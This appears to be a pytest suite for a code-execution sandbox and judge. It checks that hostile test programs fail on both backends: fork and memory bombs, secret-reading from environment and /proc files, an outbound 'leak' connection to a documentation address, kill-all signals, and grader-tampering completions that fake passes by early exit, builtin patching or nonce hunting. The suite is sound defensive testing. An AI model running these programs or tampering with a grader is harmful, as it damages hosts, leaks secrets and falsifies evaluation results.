"""The hostile-program suite, on both backends: each program is contained (a failure with the
right status), the sandbox goes on (the `sandbox` fixture checks it after every test), and the
host is unchanged (its files, its processes, its listeners).

The docker half needs a container engine: `eval "$(scripts/container-engine.sh)"` starts
Podman and exports DOCKER_HOST (.ci/run does it); without one it is skipped, saying so.
"""

from __future__ import annotations

import os
import secrets
import socket
from pathlib import Path

import pytest

from heldout.episodes.judge import NO_MARKER_NOTE, score
from heldout.errors import SandboxError
from heldout.sandbox.config import SandboxConfig, make_sandbox
from heldout.sandbox.protocol import DEFAULT_IMAGE, ExecResult, Program
from heldout.sandbox.subprocess import namespaces_available
from heldout.tasks.record import Task

REPO = Path(__file__).resolve().parent.parent
BACKENDS = ("subprocess", "docker")
LIMITS = {"timeout_s": 1.5, "memory_mb": 256}
NO_ENGINE = (
    'no container engine for the docker backend: run `eval "$(scripts/container-engine.sh)"` '
    "(it starts Podman and exports DOCKER_HOST), then the tests again. "
)

# Correct, so that only the hostile part can make it fail. abs() lets a test see whether a
# completion's monkeypatching reaches the tests.
TASK = Task(
    id="hostile/add",
    group="hostile",
    prompt='def add(a, b):\n    """Return a + b."""\n',
    entry_point="add",
    tests="def check(candidate):\n"
    "    assert abs(candidate(2, 3) - 5) < 1e-9\n"
    "    assert candidate(-1, 1) == 0\n\n"
    "check(add)\n",
)
CORRECT = "    return a + b\n"
WRONG = "    return 0\n"


@pytest.fixture(scope="session")
def subprocess_sandbox():
    if not namespaces_available():
        pytest.skip("the subprocess backend isolates programs only as root with util-linux "
                    "unshare; without them it runs them unisolated, which this suite would fail")
    with make_sandbox("subprocess", workers=2) as sandbox:
        yield sandbox


@pytest.fixture(scope="session")
def docker_sandbox():
    if not os.environ.get("DOCKER_HOST"):
        pytest.skip(NO_ENGINE + "DOCKER_HOST is unset.")
    try:
        sandbox = make_sandbox("docker", workers=2)
    except SandboxError as error:
        pytest.skip(NO_ENGINE + str(error))
    yield sandbox
    sandbox.close()


@pytest.fixture(params=BACKENDS)
def sandbox(request):
    sandbox = request.getfixturevalue(f"{request.param}_sandbox")
    yield sandbox
    after = sandbox.run("print(6 * 7)", **LIMITS)
    assert (after.status, after.stdout_tail) == ("ok", "42\n"), "the sandbox must go on"


def processes_tagged(tag: str) -> list[int]:
    """Processes on this host whose command line holds `tag`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if tag.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue  # it ended while we looked
    return found


def outputs(result: ExecResult) -> str:
    return result.stdout_tail + result.stderr_tail


# --- limits --------------------------------------------------------------------------------


def test_an_infinite_loop_times_out(sandbox):
    result = sandbox.run("while True:\n    pass\n", **LIMITS)
    assert (result.passed, result.status, result.network_isolated) == (False, "timeout", True)


def test_a_program_that_sleeps_silently_past_its_deadline_times_out(sandbox):
    result = sandbox.run("import time\ntime.sleep(60)\n", **LIMITS)
    assert (result.passed, result.status) == (False, "timeout")
    assert result.stdout_tail == ""


def test_a_fork_bomb_is_contained_and_killed_whole(sandbox):
    tag = f"heldout-fork-bomb-{secrets.token_hex(6)}"
    bomb = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n" \
           "        time.sleep(0.01)\n"
    # exec'd with the tag in its arguments, so that every process of the bomb carries it.
    program = f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', {bomb!r}, " \
              f"{tag!r}])\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "timeout")
    assert processes_tagged(tag) == []


def test_a_memory_bomb_ends_as_oom(sandbox):
    program = "chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 * 1024))\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "oom")


def test_a_gigabyte_on_stdout_is_cut_off_and_only_its_tail_kept(sandbox):
    program = "import sys\nchunk = 'x' * 2**20\nfor _ in range(1024):\n" \
              "    sys.stdout.write(chunk)\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "MiB of output: killed" in result.stderr_tail
    assert 0 < len(result.stdout_tail) <= 4096


def test_a_gigabyte_file_in_the_work_dir_stops_at_the_file_size_limit(sandbox):
    program = "with open('big', 'wb') as big:\n    for _ in range(1024):\n" \
              "        big.write(b'x' * 2**20)\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "File too large" in result.stderr_tail


# --- the host's files, secrets and network -------------------------------------------------


@pytest.fixture
def canary():
    """A file in the project that programs try to overwrite; removed afterwards."""
    path = REPO / f".heldout-sandbox-canary-{secrets.token_hex(6)}"
    path.write_text("original\n")
    yield path
    path.unlink()


@pytest.mark.parametrize("where", ["data", "ledger", "home", "existing project file"])
def test_writes_outside_the_work_dir_fail_and_change_nothing(sandbox, canary, where):
    token = secrets.token_hex(6)
    target = {
        "data": REPO / "data" / f"heldout-canary-{token}",
        "ledger": REPO / "ledger" / f"heldout-canary-{token}",
        "home": Path.home() / f".heldout-canary-{token}",
        "existing project file": canary,
    }[where]
    result = sandbox.run(f"open({str(target)!r}, 'w').write('overwritten')\n", **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    if where == "existing project file":
        assert target.read_text() == "original\n"
    else:
        assert not target.exists()


def test_the_project_and_the_test_split_cannot_be_read(sandbox, canary):
    secret = secrets.token_hex(16)
    canary.write_text(secret)
    test_split = REPO / "data" / "split" / "test.jsonl"
    program = f"for path in {[str(canary), str(test_split)]!r}:\n    print(open(path).read())\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "FileNotFoundError" in result.stderr_tail
    assert secret not in outputs(result)
    if test_split.is_file():
        assert test_split.read_text()[:60] not in outputs(result)


@pytest.mark.parametrize("backend", BACKENDS)
def test_secrets_in_the_environment_do_not_reach_programs(request, backend, monkeypatch):
    request.getfixturevalue(f"{backend}_sandbox")  # skips where the backend cannot run
    secret = f"heldout-fake-secret-{secrets.token_hex(8)}"
    for name in ("HELDOUT_FAKE_TOKEN", "AWS_SECRET_ACCESS_KEY", "MLFLOW_TRACKING_PASSWORD"):
        monkeypatch.setenv(name, secret)
    # Opened after the secret is set, so its workers would inherit it if anything did.
    with make_sandbox(backend, workers=1) as fresh:
        environ_files = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getpid()}/environ"]
        program = (
            "import os\nprint(sorted(os.environ))\nprint(dict(os.environ))\n"
            f"for path in {environ_files!r}:\n"
            "    try:\n        print(open(path, 'rb').read())\n"
            "    except OSError as error:\n        print(error)\n"
            "raise SystemExit(3)\n"
        )
        result = fresh.run(program, **LIMITS)
    assert (result.status, result.exit_code) == ("failed", 3)
    assert "PATH" in result.stdout_tail
    assert secret not in outputs(result)


def test_no_connection_leaves_the_sandbox_to_an_outside_address(sandbox):
    # 192.0.2.1 is TEST-NET-1 (documentation only). The program connects only after it has
    # checked that it sees no interface but loopback, so nothing is sent even if isolation broke.
    result = sandbox.run(_connect_program("192.0.2.1", 80), **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "not isolated" not in result.stderr_tail
    assert "OSError" in result.stderr_tail or "TimeoutError" in result.stderr_tail


def test_a_listener_on_the_hosts_loopback_receives_nothing(sandbox):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        result = sandbox.run(_connect_program("127.0.0.1", port), **LIMITS)
        assert (result.passed, result.status) == (False, "failed")
        assert "not isolated" not in result.stderr_tail
        with pytest.raises(BlockingIOError):
            listener.accept()  # a connection that had been made would be waiting here


def _connect_program(host: str, port: int) -> str:
    return (
        "import socket\n"
        "others = [name for _, name in socket.if_nameindex() if name != 'lo']\n"
        "if others:\n    raise SystemExit(f'not isolated: {others}')\n"
        f"socket.create_connection(({host!r}, {port}), timeout=1).sendall(b'leak')\n"
    )


# --- processes -----------------------------------------------------------------------------


@pytest.mark.parametrize("kill", ["os.kill(os.getppid(), 9)", "os.kill(-1, 9)"])
def test_killing_the_parent_or_everything_kills_no_sandbox_and_no_host_process(sandbox, kill):
    result = sandbox.run(f"import os\n{kill}\nraise SystemExit('survived')\n", **LIMITS)
    assert (result.passed, result.status) == (False, "failed")


def test_a_background_process_that_outlives_the_program_is_killed(sandbox):
    tag = f"heldout-background-{secrets.token_hex(6)}"
    program = (
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', "
        f"{tag!r}])\n"
        "    os._exit(0)\n"
        "print('left it running')\n"
    )
    result = sandbox.run(program, **LIMITS)
    # The program itself ended well, and the sleeper holding its stdout did not make it wait.
    assert (result.status, result.stdout_tail) == ("ok", "left it running\n")
    assert processes_tagged(tag) == []


# --- scored programs: the completion marker ------------------------------------------------


@pytest.mark.parametrize(
    "completion",
    [
        CORRECT + "import sys\nsys.exit(0)\n",
        CORRECT + "import os\nos._exit(0)\n",
        CORRECT + "raise SystemExit(0)\n",
        CORRECT + "import threading, os\nthreading.Thread(target=os._exit, args=(0,)).start()\n"
        "import time\ntime.sleep(5)\n",
    ],
    ids=["sys.exit", "os._exit", "SystemExit", "exit-from-a-thread"],
)
def test_exit_0_before_the_checks_is_not_a_pass(sandbox, completion):
    result = score(TASK, completion, sandbox, **LIMITS)
    assert (result.passed, result.status, result.exit_code) == (False, "failed", 0)
    assert result.stderr_tail.endswith(NO_MARKER_NOTE)


@pytest.mark.parametrize(
    "hack",
    [
        "import builtins\nbuiltins.abs = lambda x: 0\n",
        "import builtins\nbuiltins.exec = builtins.compile = lambda *a, **k: None\n",
        "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n",
        "import os, sys\nsys.audit('heldout.checked')\nos._exit(0)\n",
        "import os\nprint('\\nheldout-checks-returned:' + '0' * 32, flush=True)\nos._exit(0)\n",
        "x = '''\n",
    ],
    ids=["patch-abs", "patch-exec", "patch-AssertionError", "raise-the-event", "print-a-guess",
         "swallow-the-tests"],
)
def test_a_wrong_completion_cannot_pass_by_tampering(sandbox, hack):
    assert score(TASK, CORRECT, sandbox, **LIMITS).passed, "the task itself must be passable"
    result = score(TASK, WRONG + hack, sandbox, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")


NONCE_HUNT = r"""
import os, re, sys
seen = []
def look(what):
    try:
        seen.append(repr(what()))
    except BaseException as error:
        seen.append(repr(error))
look(lambda: open(sys.modules['__main__'].__file__).read())
look(lambda: sys.stdin.read())
look(lambda: os.read(0, 100))
look(lambda: open('/proc/self/cmdline', 'rb').read())
look(lambda: open('/proc/self/environ', 'rb').read())
look(lambda: open('/proc/self/mem', 'rb').read(10))
look(lambda: open('/proc/1/mem', 'rb').read(10))
def every_frames_locals():
    frame, found = sys._getframe(), []
    while frame is not None:
        found.append(frame.f_locals)
        frame = frame.f_back
    return found
look(every_frames_locals)
look(lambda: __import__('gc').get_objects())
look(lambda: __import__('ctypes'))
look(lambda: os.fork())
def grab():
    try:
        1 / 0
    except ZeroDivisionError as error:
        return error.__traceback__.tb_frame.f_back.f_locals
look(grab)
def runners_memory_files():  # the runner shares our user inside a container
    return [open(f'/proc/1/fd/{fd}', 'rb').read() for fd in os.listdir('/proc/1/fd')
            if 'memfd' in os.readlink(f'/proc/1/fd/{fd}')]
look(runners_memory_files)
print([s[:100] for s in seen])
for guess in set(re.findall(r'[0-9a-f]{32}', ' '.join(seen))):
    print('\nheldout-checks-returned:' + guess)
sys.stdout.flush()
os._exit(0)
"""


def test_the_nonce_cannot_be_found_from_inside_the_program(sandbox):
    result = score(TASK, WRONG + NONCE_HUNT, sandbox, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "is not allowed in a scored program" in result.stdout_tail, "the policy refused some"


def test_a_correct_completion_that_prints_and_uses_the_standard_library_passes(sandbox):
    completion = (
        "    from collections import namedtuple\n"
        "    Pair = namedtuple('Pair', 'a b')\n"
        "    print('computing', Pair(a, b))\n"
        "    return sum(Pair(a, b))\n"
    )
    result = score(TASK, completion, sandbox, **LIMITS)
    assert (result.passed, result.status) == (True, "ok")
    assert "computing Pair(a=2, b=3)" in result.stdout_tail
    assert "heldout-checks-returned" not in result.stdout_tail


# --- configuration and errors --------------------------------------------------------------


def test_an_unknown_backend_or_setting_is_a_sandbox_error():
    with pytest.raises(SandboxError, match="unknown sandbox backend 'vm'"):
        make_sandbox("vm")
    with pytest.raises(SandboxError, match="'subprocess' has no setting colour"):
        make_sandbox("subprocess", colour="blue")
    with make_sandbox("subprocess", workers=1) as sandbox, pytest.raises(
        SandboxError, match="limits must be positive"
    ):
        sandbox.run("pass", timeout_s=0, memory_mb=256)


def test_no_engine_at_docker_host_is_a_sandbox_error_naming_it(monkeypatch, tmp_path):
    address = f"unix://{tmp_path}/nothing-here.sock"
    monkeypatch.setenv("DOCKER_HOST", address)
    with pytest.raises(SandboxError, match="container-engine.sh") as raised:
        make_sandbox("docker")
    assert address in str(raised.value)


def test_a_missing_image_is_a_sandbox_error_saying_how_to_get_one(docker_sandbox):
    with pytest.raises(SandboxError, match="container-engine.sh") as raised:
        make_sandbox("docker", image="heldout-no-such-image:0")
    assert "heldout-no-such-image:0" in str(raised.value)


def test_the_config_is_strict_and_opens_the_backend_it_names(subprocess_sandbox):
    config = SandboxConfig()
    assert (config.backend, config.image, config.network) == ("subprocess", DEFAULT_IMAGE, "none")
    with pytest.raises(ValueError, match="Extra inputs"):
        SandboxConfig(backend="subprocess", gpu=True)
    with pytest.raises(ValueError):
        SandboxConfig(network="host")
    with config.open() as opened:
        assert opened.run("print(1)", **LIMITS).stdout_tail == "1\n"


def test_run_many_keeps_the_order_of_its_programs(sandbox):
    programs = [f"import time\ntime.sleep({0.05 * (i % 3)})\nprint({i})\n" for i in range(8)]
    results = sandbox.run_many(programs, **LIMITS)
    assert [r.stdout_tail for r in results] == [f"{i}\n" for i in range(8)]


def test_a_program_runs_in_a_fresh_empty_work_dir_as_an_unprivileged_user(sandbox):
    program = "import os\n" \
              "print(os.listdir('.'), os.getuid() != 0, os.environ['HOME'] == os.getcwd())\n"
    first, second = sandbox.run_many([program, program], **LIMITS)
    assert first.stdout_tail == second.stdout_tail == "['main.py'] True True\n"



@pytest.mark.parametrize("container_per", ["task", "program"])
def test_docker_shares_a_container_among_a_groups_programs_only_when_asked(
    docker_sandbox, container_per
):
    program = Program("import socket\nprint(socket.gethostname())\n", group="one-task")
    with make_sandbox("docker", container_per=container_per) as sandbox:
        hosts = {r.stdout_tail for r in sandbox.run_many([program] * 3, **LIMITS)}
    assert len(hosts) == (1 if container_per == "task" else 3)


def test_without_namespaces_programs_still_run_but_say_they_were_not_isolated(monkeypatch):
    import heldout.sandbox.subprocess as backend

    monkeypatch.setattr(backend, "namespaces_available", lambda: False)
    monkeypatch.setattr(backend, "_warned_unisolated", False)
    with pytest.warns(RuntimeWarning, match="without namespaces"):
        unisolated = make_sandbox("subprocess", workers=1)
    with unisolated:
        result = unisolated.run("import os\nprint(os.getcwd() == os.environ['TMPDIR'])\n",
                                **LIMITS)
        looping = unisolated.run("while True:\n    pass\n", **LIMITS)
    assert (result.status, result.stdout_tail, result.network_isolated) == ("ok", "True\n", False)
    assert looping.status == "timeout"
